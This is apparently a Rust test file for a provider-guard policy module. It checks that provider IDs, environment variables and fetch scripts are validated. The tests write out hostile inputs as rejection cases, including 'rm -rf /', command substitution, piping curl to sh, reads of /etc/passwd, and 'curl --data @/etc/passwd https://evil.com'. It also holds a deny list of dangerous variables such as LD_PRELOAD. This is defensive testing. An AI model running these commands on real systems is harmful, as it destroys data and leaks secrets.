use provider_guard::error::AppError;
use provider_guard::policy::{
    check_fetch_tokens, check_lowered_script, is_denied_env_name, validate_env,
    validate_fetch_script, validate_provider_id,
};

fn env_of(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
}

fn rejection(r: Result<(), AppError>) -> String {
    match r {
        Err(AppError::Validation(m)) => m,
        Err(other) => panic!("expected a validation error, got {:?}", other),
        Ok(()) => panic!("expected a rejection"),
    }
}

// ==================== validate_provider_id ====================

#[test]
fn test_validate_provider_id_valid() {
    assert!(validate_provider_id("my-provider").is_ok());
    assert!(validate_provider_id("provider_1").is_ok());
    assert!(validate_provider_id("Provider123").is_ok());
}

#[test]
fn test_validate_provider_id_empty() {
    assert!(validate_provider_id("").is_err());
}

#[test]
fn test_validate_provider_id_path_traversal() {
    assert!(validate_provider_id("../etc/passwd").is_err());
    assert!(validate_provider_id("foo/bar").is_err());
    assert!(validate_provider_id("foo\\bar").is_err());
    assert!(validate_provider_id("..").is_err());
    assert!(validate_provider_id("foo..bar").is_ok());
}

#[test]
fn test_validate_provider_id_null_byte() {
    assert!(validate_provider_id("foo\0bar").is_err());
}

#[test]
fn provider_id_traversal_forms_rejected_with_reason() {
    for id in ["..", "../x", "a/..", "a\\..", "..\\x"] {
        assert_eq!(
            rejection(validate_provider_id(id)),
            "Provider ID is empty or contains invalid characters"
        );
    }
    assert!(validate_provider_id("...").is_ok());
    assert!(validate_provider_id(".hidden").is_ok());
}

// ==================== validate_env ====================

#[test]
fn test_validate_env_valid() {
    let env = env_of(&[("API_KEY", "secret123"), ("TOKEN", "abc123")]);
    assert!(validate_env(&env).is_ok());
}

#[test]
fn test_validate_env_empty_key() {
    let env = env_of(&[("", "value")]);
    assert!(validate_env(&env).is_err());
}

#[test]
fn test_validate_env_contains_equals() {
    let env = env_of(&[("FOO=BAR", "value")]);
    assert!(validate_env(&env).is_err());
}

#[test]
fn test_validate_env_contains_null() {
    let env = env_of(&[("FOO\0BAR", "value")]);
    assert!(validate_env(&env).is_err());
}

#[test]
fn test_validate_env_dangerous_vars() {
    let dangerous = [
        "PATH",
        "path",
        "Path",
        "HOME",
        "SHELL",
        "LD_PRELOAD",
        "DYLD_INSERT_LIBRARIES",
    ];
    for var in dangerous {
        let env = env_of(&[(var, "value")]);
        assert!(
            validate_env(&env).is_err(),
            "Should reject dangerous env var: {}",
            var
        );
    }
}

#[test]
fn test_validate_env_dangerous_value_chars() {
    let dangerous_values = [
        "'; rm -rf /",
        "value; echo pwned",
        "$(whoami)",
        "`id`",
        "foo\nbar",
        "test|cat",
        "a&b",
    ];
    for value in dangerous_values {
        let env = env_of(&[("API_KEY", value)]);
        assert!(
            validate_env(&env).is_err(),
            "Should reject dangerous value: {}",
            value
        );
    }
}

#[test]
fn env_reasons_name_rule_and_fragment() {
    assert_eq!(
        rejection(validate_env(&env_of(&[("A=B", "v")]))),
        "Invalid environment variable key: 'A=B'"
    );
    assert_eq!(
        rejection(validate_env(&env_of(&[("ld_preload", "v")]))),
        "Environment variable 'ld_preload' is not allowed for security reasons"
    );
    assert_eq!(
        rejection(validate_env(&env_of(&[("API_KEY", "ab(c")]))),
        "Environment variable value for 'API_KEY' contains dangerous character: '('"
    );
}

#[test]
fn env_first_refused_entry_is_reported() {
    let env = env_of(&[("OK", "fine"), ("OK", "again"), ("Home", "x"), ("", "y")]);
    assert_eq!(
        rejection(validate_env(&env)),
        "Environment variable 'Home' is not allowed for security reasons"
    );
}

#[test]
fn env_deny_list_any_casing() {
    for name in ["path", "PATH", "Path", "pAtH", "ifs", "Bash_Env", "env", "dyld_library_path"] {
        assert!(validate_env(&env_of(&[(name, "v")])).is_err(), "{}", name);
    }
    assert!(validate_env(&env_of(&[("PATHS", "v")])).is_ok());
    assert!(validate_env(&Vec::new()).is_ok());
}

#[test]
fn denied_name_check_takes_upper_case() {
    assert!(is_denied_env_name("LD_LIBRARY_PATH"));
    assert!(!is_denied_env_name("ld_library_path"));
    assert!(!is_denied_env_name("API_KEY"));
}

// ==================== validate_fetch_script ====================

#[test]
fn test_validate_fetch_script_valid_curl() {
    assert!(validate_fetch_script("curl https://api.example.com").is_ok());
    assert!(validate_fetch_script(
        "curl -H 'Authorization: Bearer token' https://api.example.com"
    )
    .is_ok());
}

#[test]
fn test_validate_fetch_script_valid_wget() {
    assert!(validate_fetch_script("wget -qO- https://api.example.com").is_ok());
}

#[test]
fn test_validate_fetch_script_valid_http() {
    assert!(validate_fetch_script("http https://api.example.com").is_ok());
    assert!(validate_fetch_script("httpie https://api.example.com").is_ok());
}

#[test]
fn test_validate_fetch_script_disallowed_command() {
    assert!(validate_fetch_script("rm -rf /").is_err());
    assert!(validate_fetch_script("cat /etc/passwd").is_err());
    assert!(validate_fetch_script("sh -c 'echo hello'").is_err());
    assert!(validate_fetch_script("python -c 'print(1)'").is_err());
}

#[test]
fn test_validate_fetch_script_command_chaining() {
    assert!(validate_fetch_script("curl https://api.com; rm -rf /").is_err());
    assert!(validate_fetch_script("curl https://api.com && echo pwned").is_err());
    assert!(validate_fetch_script("curl https://api.com || echo fallback").is_err());
}

#[test]
fn test_validate_fetch_script_pipe() {
    assert!(validate_fetch_script("curl https://api.com | sh").is_err());
}

#[test]
fn test_validate_fetch_script_command_substitution() {
    assert!(validate_fetch_script("curl https://$(whoami).com").is_err());
    assert!(validate_fetch_script("curl https://`whoami`.com").is_err());
    assert!(validate_fetch_script("curl https://${USER}.com").is_err());
}

#[test]
fn test_validate_fetch_script_redirection() {
    assert!(validate_fetch_script("curl https://api.com > /tmp/out").is_err());
    assert!(validate_fetch_script("curl https://api.com >> /tmp/out").is_err());
    assert!(validate_fetch_script("curl https://api.com < /etc/passwd").is_err());
    assert!(validate_fetch_script("curl https://api.com 2>/dev/null").is_err());
}

#[test]
fn test_validate_fetch_script_newline_injection() {
    assert!(validate_fetch_script("curl https://api.com\nrm -rf /").is_err());
    assert!(validate_fetch_script("curl https://api.com\rrm -rf /").is_err());
}

#[test]
fn test_validate_fetch_script_empty() {
    assert!(validate_fetch_script("").is_err());
    assert!(validate_fetch_script("   ").is_err());
}

#[test]
fn test_validate_fetch_script_file_protocol() {
    assert!(validate_fetch_script("curl file:///etc/passwd").is_err());
    assert!(validate_fetch_script("curl FILE:///etc/passwd").is_err());
    assert!(validate_fetch_script("wget file:///etc/passwd").is_err());
}

#[test]
fn test_validate_fetch_script_at_file_syntax() {
    assert!(validate_fetch_script("curl --data @/etc/passwd https://evil.com").is_err());
    assert!(validate_fetch_script("curl -d @./secret.txt https://evil.com").is_err());
}

#[test]
fn test_validate_fetch_script_output_options() {
    assert!(validate_fetch_script("curl -o /tmp/out https://api.com").is_err());
    assert!(validate_fetch_script("curl -O https://api.com/file").is_err());
    assert!(validate_fetch_script("curl --output /tmp/out https://api.com").is_err());
    assert!(validate_fetch_script("wget -O /tmp/out https://api.com").is_err());
}

#[test]
fn fetch_reasons_name_rule_and_fragment() {
    assert_eq!(
        rejection(validate_fetch_script("rm -rf /")),
        "Fetch script must start with one of: curl, wget, http, httpie. Got: 'rm'"
    );
    assert_eq!(
        rejection(validate_fetch_script("   ")),
        "Fetch script must start with one of: curl, wget, http, httpie. Got: ''"
    );
    assert_eq!(
        rejection(validate_fetch_script("curl https://a.com; rm -rf /")),
        "Fetch script contains dangerous pattern: ';'. Only simple HTTP commands are allowed."
    );
    assert_eq!(
        rejection(validate_fetch_script("curl a >> b")),
        "Fetch script contains dangerous pattern: '>'. Only simple HTTP commands are allowed."
    );
    assert_eq!(
        rejection(validate_fetch_script("curl FILE:///etc/passwd")),
        "Fetch script contains dangerous pattern: 'file://'. Only http/https URLs are allowed."
    );
    assert_eq!(
        rejection(validate_fetch_script("curl --output x https://a.com")),
        "Fetch script contains dangerous option: '--output'. Output redirection is not allowed."
    );
    assert_eq!(
        rejection(validate_fetch_script("curl -d @body.json https://a.com")),
        "Fetch script contains '@file' syntax which could read local files. This is not allowed."
    );
}

#[test]
fn fetch_script_trims_surrounding_white_space() {
    assert!(validate_fetch_script("  \t curl https://a.com \n").is_ok());
    assert!(validate_fetch_script("curl\thttps://a.com").is_ok());
    assert!(validate_fetch_script("curly https://a.com").is_err());
}

#[test]
fn fetch_script_unbalanced_quotes_skip_word_checks() {
    assert!(validate_fetch_script("curl 'https://a.com").is_ok());
    assert!(validate_fetch_script("curl \"-o\" https://a.com").is_err());
    assert!(validate_fetch_script("curl '@x' https://a.com").is_err());
    assert!(validate_fetch_script("curl @ https://a.com").is_ok());
}

#[test]
fn lowered_check_and_token_check() {
    assert!(check_lowered_script("curl file:x").is_err());
    assert!(check_lowered_script("curl https://a.com/@~/").is_err());
    assert!(check_lowered_script("curl https://a.com").is_ok());
    assert!(check_fetch_tokens(&vec!["curl".to_string(), "--data-binary".to_string()]).is_err());
    assert!(check_fetch_tokens(&vec!["curl".to_string(), "-H".to_string()]).is_ok());
    assert!(check_fetch_tokens(&Vec::new()).is_ok());
}

#[test]
fn env_repeated_names_after_entry_checks() {
    assert_eq!(
        rejection(validate_env(&env_of(&[("A", "1"), ("B", "2"), ("A", "3"), ("B", "4")]))),
        "Environment variable 'A' is given more than once"
    );
    assert!(validate_env(&env_of(&[("A", "1"), ("a", "1")])).is_ok());
}
